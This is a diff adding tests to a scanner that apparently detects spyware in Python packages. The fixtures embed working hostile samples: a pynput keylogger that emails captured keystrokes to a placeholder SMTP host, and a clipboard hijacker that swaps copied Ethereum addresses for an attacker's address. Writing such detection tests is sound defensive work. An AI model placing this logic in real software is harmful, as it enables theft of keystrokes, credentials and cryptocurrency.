@@ -196,3 +196,39 @@ test('a history of the clipboard that puts back what was copied is silent', asyn
 
   expect(await inspect('spyware', file)).toEqual([]);
 });
+
+test.each([
+  ['an account whose password is in the code', "s.login('a@mail-of.invalid', 'some word')", 'malware', 10],
+  ['the account of the user', "s.login(os.environ['MAIL_USER'], os.environ['MAIL_PASSWORD'])", 'suspicious', 7],
+])('keys that are listened to where mail is sent from %s', async (_whose, login, kind, score) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, smtplib',
+      'from pynput import keyboard',
+      'typed = []',
+      'def report():',
+      "    s = smtplib.SMTP('smtp.mail-of.invalid', 587)",
+      `    ${login}`,
+      "    s.sendmail('a@mail-of.invalid', 'a@mail-of.invalid', ''.join(typed))",
+      'def start():',
+      '    with keyboard.Listener(on_press=lambda k: typed.append(str(k))) as listener:',
+      '        listener.join()',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([{ class: kind, score, context: 'call' }]);
+});
+
+test('an address of its own that a function puts into the clipboard is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import re, pyperclip',
+      'def watch():',
+      '    while True:',
+      "        if re.match(r'^0x[a-fA-F0-9]{40}$', pyperclip.paste()):",
+      "            pyperclip.copy('0x' + 'ab' * 20)",
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
+});
